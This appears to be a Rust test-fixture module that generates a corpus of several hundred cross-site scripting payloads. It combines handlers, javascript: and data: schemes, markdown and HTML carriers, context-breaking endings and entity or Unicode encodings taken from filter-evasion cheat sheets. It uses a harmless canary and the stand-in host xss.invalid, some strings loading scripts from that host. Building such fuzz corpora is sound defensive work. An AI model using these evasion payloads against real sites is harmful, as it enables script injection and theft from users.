//! Some hundreds of the shapes in which scripts are published to slip into pages (OWASP's cheat sheet on filter evasion,
//! PortSwigger's, mutation XSS): each a line that every field takes, made by crossing carriers, handlers, schemes and
//! encodings.

/// What a script sets when it runs.
pub const CANARY: &str = "__xss";
/// A host that nothing may ever be asked of.
pub const ELSEWHERE: &str = "xss.invalid";
/// The most characters of a shape: what the shortest field takes, with something around it.
pub const SHAPE_CHARS_MAX: usize = 180;

const RUN: &str = "window.__xss=1";

const TAGS: [&str; 12] = [
    "img src=x",
    "svg",
    "body",
    "video src=x",
    "audio src=x",
    "details open",
    "input autofocus",
    "select autofocus",
    "iframe src=x",
    "object data=x",
    "marquee",
    "a href=# tabindex=1",
];
const HANDLERS: [&str; 14] = [
    "onerror",
    "onload",
    "onfocus",
    "ONTOGGLE",
    "onMouseOver",
    "onpointerenter",
    "onanimationstart",
    "ontransitionend",
    "onbegin",
    "onstart",
    "onpageshow",
    "onbeforeinput",
    "onscrollend",
    "oncontentvisibilityautostatechange",
];
const SCHEMES: [&str; 18] = [
    "javascript:window.__xss=1",
    "JaVaScRiPt:window.__xss=1",
    " javascript:window.__xss=1",
    "java\u{ad}script:window.__xss=1",
    "java\u{200b}script:window.__xss=1",
    "java&#10;script:window.__xss=1",
    "java&Tab;script:window.__xss=1",
    "&#106;&#97;vascript:window.__xss=1",
    "&#x6A;avascript&colon;window.__xss=1",
    "javascript://%0awindow.__xss=1",
    "javascript%3Awindow.__xss=1",
    "vbscript:window.__xss=1",
    "data:text/html,<script>parent.__xss=1</script>",
    "data:text/html;base64,PHNjcmlwdD5wYXJlbnQuX194c3M9MTwvc2NyaXB0Pg==",
    "data:image/svg+xml,<svg/onload=parent.__xss=1>",
    "blob:window.__xss=1",
    "//xss.invalid/a",
    "https://xss.invalid/a.png",
];
/// Where an address stands; `URL` is it.
const CARRIERS: [&str; 14] = [
    "[press](URL)",
    "![picture](URL)",
    "[press](<URL> \"t\")",
    "[press][1] [1]: URL",
    "<URL>",
    "<a href=\"URL\">press</a>",
    "<a href=URL>press</a>",
    "<img src=\"URL\">",
    "<iframe src=\"URL\"></iframe>",
    "<object data=\"URL\"></object>",
    "<form action=\"URL\"><button>press</button></form>",
    "<button formaction=\"URL\">press</button>",
    "<svg><a xlink:href=\"URL\"><text>press</text></a></svg>",
    "<math href=\"URL\">press</math>",
];
/// What ends the place that a text stands in.
const ENDS: [&str; 16] = [
    "\"",
    "'",
    "`",
    "\">",
    "'>",
    "`>",
    "-->",
    "]]>",
    "*/",
    "</textarea>",
    "</title>",
    "</style>",
    "</script>",
    "</noscript>",
    "</template>",
    "</option></select>",
];
const CORES: [&str; 6] = [
    "<script>window.__xss=1</script>",
    "<img src=x onerror=window.__xss=1>",
    "<svg/onload=window.__xss=1>",
    "<iframe srcdoc='<script>parent.__xss=1</script>'>",
    "<script src=//xss.invalid/a.js></script>",
    "<a href=javascript:window.__xss=1 autofocus onfocus=window.__xss=1>x</a>",
];
/// What stands by itself.
const SINGLE: [&str; 52] = [
    "{{constructor.constructor('window.__xss=1')()}}",
    "{{$on.constructor('window.__xss=1')()}}",
    "{{[].pop.constructor`window.__xss=1```}}",
    "${window.__xss=1}",
    "#{window.__xss=1}",
    "<%= window.__xss=1 %>",
    "{%raw%}<script>window.__xss=1</script>{%endraw%}",
    "[[${window.__xss=1}]]",
    "*{window.__xss=1}",
    "<div v-html=\"'<img src=x onerror=window.__xss=1>'\">",
    "<div ng-app ng-csp><i ng-init=\"window.__xss=1\">",
    "<div x-data x-init=\"window.__xss=1\">",
    "<link rel=stylesheet href=//xss.invalid/a.css>",
    "<link rel=prefetch href=//xss.invalid/a>",
    "<link rel=import href=//xss.invalid/a>",
    "<base href=//xss.invalid/>",
    "<meta http-equiv=refresh content=0;url=//xss.invalid/>",
    "<meta http-equiv=refresh content=\"0;url=javascript:window.__xss=1\">",
    "<style>@import'//xss.invalid/a.css';</style>",
    "<style>*{background:url(//xss.invalid/a)}</style>",
    "<p style=\"background:url(//xss.invalid/a)\">x</p>",
    "<p style=\"animation-name:x\" onanimationend=window.__xss=1>x</p>",
    "<video poster=//xss.invalid/a><source onerror=window.__xss=1>",
    "<body background=//xss.invalid/a>",
    "<table background=//xss.invalid/a>",
    "<input type=image src=//xss.invalid/a>",
    "<img srcset=\"//xss.invalid/a 1x\">",
    "<picture><source srcset=//xss.invalid/a><img></picture>",
    "<svg><image href=//xss.invalid/a>",
    "<svg><image xlink:href=//xss.invalid/a>",
    "<svg><use href=//xss.invalid/a.svg#x>",
    "<svg><feImage href=//xss.invalid/a>",
    "<svg><script>window.__xss=1</script></svg>",
    "<svg><script href=data:,window.__xss=1></script>",
    "<svg><animate onbegin=window.__xss=1 attributeName=x dur=1s>",
    "<svg><set attributeName=onload to=window.__xss=1>",
    "<svg><a><animate attributeName=href values=javascript:window.__xss=1 /><text y=9>x</text></a>",
    "<svg><foreignObject><iframe srcdoc='<script>parent.__xss=1</script>'>",
    "<svg><style><img src=x onerror=window.__xss=1></style>",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=window.__xss=1&gt;\">",
    "<math><mi//xlink:href=\"data:x,<script>parent.__xss=1</script>\">",
    "<noscript><p title=\"</noscript><img src=x onerror=window.__xss=1>\">",
    "<template><script>window.__xss=1</script></template>",
    "<textarea autofocus onfocus=window.__xss=1>",
    "<keygen autofocus onfocus=window.__xss=1>",
    "<embed src=javascript:window.__xss=1>",
    "<isindex type=image src=1 onerror=window.__xss=1>",
    "<xmp><img title=\"</xmp><img src=x onerror=window.__xss=1>\">",
    "<!--[if gte IE 4]><script>window.__xss=1</script><![endif]-->",
    "<?xml-stylesheet href=\"javascript:window.__xss=1\"?>",
    "<script/x>window.__xss=1</script/x>",
    "<<script>window.__xss=1//<</script>",
];

/// All of them, each once.
#[must_use]
pub fn shapes() -> Vec<String> {
    let mut shapes: Vec<String> = SINGLE.iter().map(ToString::to_string).collect();
    for (at, handler) in HANDLERS.iter().enumerate() {
        for (and, tag) in TAGS.iter().enumerate() {
            // Between name and handler stands what parsers take for space, and around the value what they take for quotes.
            let space = [" ", "/", " x=y ", "\u{a0}"][(at + and) % 4];
            let quote = ["", "\"", "'"][(at + and) % 3];
            shapes.push(format!("<{tag}{space}{handler}={quote}{RUN}{quote}>"));
        }
    }
    for scheme in SCHEMES {
        shapes.extend(CARRIERS.iter().map(|carrier| carrier.replace("URL", scheme)));
    }
    for end in ENDS {
        shapes.extend(CORES.iter().map(|core| format!("{end}{core}")));
        shapes.push(format!("{end} autofocus tabindex=1 onfocus={RUN} x={end}"));
    }
    for core in CORES {
        shapes.extend(ENCODINGS.iter().map(|encode| encode(core)));
    }
    shapes.retain(|shape| shape.chars().count() <= SHAPE_CHARS_MAX);
    shapes.sort();
    shapes.dedup();
    shapes
}

/// The same, written so that a careless reader decodes it.
const ENCODINGS: [fn(&str) -> String; 12] = [
    |text| text.replace('<', "&lt;").replace('>', "&gt;"),
    |text| text.replace('<', "&lt").replace('>', "&gt"),
    |text| text.replace('<', "&#60;").replace('>', "&#62;"),
    |text| text.replace('<', "&#0000060").replace('>', "&#x3e"),
    |text| text.replace('<', "&amp;lt;").replace('>', "&amp;gt;"),
    |text| text.replace('<', "%3C").replace('>', "%3E"),
    |text| text.replace('<', "%253C").replace('>', "%253E"),
    |text| text.replace('<', "\\u003c").replace('>', "\\u003e"),
    |text| text.replace('<', "\\x3c").replace('>', "\\x3e"),
    |text| text.replace('<', "＜").replace('>', "＞"),
    |text| text.replace('<', "<\u{200b}").replace("script", "scr\u{200d}ipt"),
    |text| text.replace('s', "ſ").replace('i', "ı").replace('k', "K"),
];

/// Lines of as many shapes as fit, so that all of them go through a field in fewer calls.
#[must_use]
pub fn packed(shapes: &[String], chars_max: usize) -> Vec<String> {
    let mut lines: Vec<String> = Vec::new();
    for shape in shapes {
        match lines.last_mut() {
            Some(line) if line.chars().count() + 1 + shape.chars().count() <= chars_max => {
                line.push(' ');
                line.push_str(shape);
            }
            _ => lines.push(shape.clone()),
        }
    }
    lines
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn there_are_several_hundred_and_each_is_a_line_that_every_field_takes() {
        let shapes = shapes();
        assert!(shapes.len() >= 500, "{} shapes", shapes.len());
        for shape in &shapes {
            assert_eq!(atom_core::line(shape, SHAPE_CHARS_MAX), Ok(shape.trim()), "{shape:?}");
        }
    }

    #[test]
    fn packing_loses_none() {
        let shapes = shapes();
        let packed = packed(&shapes, 190);
        assert!(packed.len() < shapes.len() / 2 && packed.iter().all(|line| line.chars().count() <= 190));
        assert_eq!(packed.join(" "), shapes.join(" "));
    }
}
